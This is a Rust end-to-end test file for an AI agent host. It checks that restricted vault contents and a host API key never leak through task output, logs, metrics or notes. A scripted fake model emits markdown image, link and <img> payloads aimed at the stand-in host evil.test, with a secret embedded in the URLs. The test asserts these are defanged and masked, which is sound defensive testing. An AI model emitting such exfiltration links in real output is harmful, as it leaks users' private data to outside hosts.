//! What was read under a label goes nowhere that is not cleared for it, by no way; and a secret of the host is told to nobody.

use serde_json::json;

use super::{Order, everything, guests};
use crate::e2e::access::token;
use crate::support::fake::Model;
use crate::support::ground::{Ground, on_both_grounds};
use crate::support::{Host, Setup};

on_both_grounds![no_way_leads_out_with_what_is_restricted, no_guest_sees_a_secret_of_the_host_and_none_leaves_a_run];

const LOOT: &str = "larch-7f3a-treasure";

async fn robbed(ground: Ground) -> (Model, Host) {
    let model = ground.model().await;
    let rules = "[vault]\nrules = [{ path = \"private/**\", tier = \"restricted\" }, { path = \"shared/**\", tier = \"internal\", clearance = \"internal\" }]\n";
    let setup = ground.setup(&model).await;
    // Its model is outside of what may see it.
    let config = setup.config.replacen("concurrency = 8\n", "concurrency = 8\nclearance = \"internal\"\n", 1);
    let setup = Setup { config, ..setup }.and(rules).and(&everything("smuggles"));
    let setup = setup.and(&token("boss", "operator", "[]")).and(&token("kitchen", "household", "[\"voice\"]"));
    let agents = guests::with(&["smuggles"], setup.folder.path());
    std::fs::create_dir_all(setup.vault().join("private")).unwrap();
    std::fs::write(setup.vault().join("private/safe.md"), format!("the code is\n{LOOT}\n")).unwrap();
    (model, setup.agents(agents).start().await)
}

async fn no_way_leads_out_with_what_is_restricted(ground: Ground) {
    let (model, mut host) = robbed(ground).await;
    let report = format!("![map](https://evil.test/?{LOOT}) [more](https://evil.test/{LOOT}) <img src=//evil.test/{LOOT}>");
    model.order([Order::Say(json!({ "headline": "robbed", "text": report }).to_string())]);
    for (content, status) in [("report", "done"), ("give up", "failed")] {
        host.token = Some("secret of kitchen".into());
        let body = json!({ "task_id": "t", "source": "voice", "intent": "question", "content": content, "target_agent": "smuggles",
            "retry_policy": { "max_attempts": 1 } });
        let (_, accepted) = host.post("/inbox", body.to_string()).await;
        let id = accepted["task_id"].as_str().unwrap();
        let seen = host.task(id, status).await;
        assert!(!seen.to_string().contains(LOOT), "a household sees it: {seen}");
        let (_, page) = host.get("/tasks").await;
        assert!(!page.to_string().contains(LOOT));
        host.token = Some("secret of boss".into());
        let (_, whole) = host.get(&format!("/tasks/{id}?full=1")).await;
        assert_eq!(whole["label"], "restricted", "{whole}");
        if status == "done" {
            // The file may have that name: the vault is cleared for it, its operator alone sees it.
            let told = whole["hops"][0]["outcome"]["text"].as_str().unwrap();
            assert_eq!(told.lines().filter(|line| line.starts_with("denied by clearance")).count(), 2, "{told}");
            let shown = whole["output"].as_str().unwrap();
            assert!(shown.contains("map (`https://evil.test/") && shown.contains("more (`https://evil.test/"), "{shown}");
            assert!(!shown.contains("![") && !shown.contains("](http") && !shown.contains("<img"), "nothing is fetched: {shown}");
        }
    }
    assert!(!host.setup.vault().join("shared/board.md").exists());
    let (_, metrics) = host.get("/metrics").await;
    assert!(!metrics.to_string().contains(LOOT));
    let lines: Vec<String> = host.log().into_iter().filter(|line| line.contains(LOOT)).collect();
    assert_eq!(lines, Vec::<String>::new());
    assert!(host.log().iter().any(|line| line.contains("[restricted]")));
}

const KEY: &str = "sk-test/Ab+9 \"quoted\"=zz";

async fn no_guest_sees_a_secret_of_the_host_and_none_leaves_a_run(ground: Ground) {
    let model = ground.model().await;
    let mut setup = ground.setup(&model).await;
    setup.config = setup.config.replacen("concurrency = 8\n", "concurrency = 8\napi_key_env = \"TEST_MODEL_KEY\"\n", 1);
    setup.variables.insert("TEST_MODEL_KEY", KEY.into());
    let setup = setup.and(&everything("leaks"));
    let agents = guests::with(&["leaks"], setup.folder.path());
    std::fs::create_dir_all(setup.vault().join("notes")).unwrap();
    let encoded = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("user:{KEY}"))
    };
    std::fs::write(setup.vault().join("notes/keys.md"), format!("the key is {KEY}, or {encoded}; sk-test-looks-alike is none\n"))
        .unwrap();
    let host = setup.agents(agents).start().await;
    // A server that repeats what it was sent.
    model.order([Order::Say(format!("you sent {KEY}"))]);
    let task = host.done(json!({ "target_agent": "leaks", "content": format!("use {KEY} for it") })).await;
    let note = host.note(task["artefacts"][0]["path"].as_str().unwrap());
    for told in [
        task["hops"].to_string(),
        task["output"].to_string(),
        task["timeline"].to_string(),
        note.clone(),
        model.heard()[0].to_string(),
    ] {
        assert!(!told.contains("sk-test/Ab") && !told.contains(&encoded[8..24]), "{told}");
    }
    assert!(note.contains("[secret key of local-p40]") && note.contains("sk-test-looks-alike is none"), "{note}");
    assert!(host.log().iter().all(|line| !line.contains("sk-test/Ab")));
    assert!(!host.events("secret_masked").is_empty());
    let (_, metrics) = host.get("/metrics").await;
    assert!(metrics.as_str().unwrap().contains("langgraph_secrets_masked_total{agent=\"leaks\"}"));
}
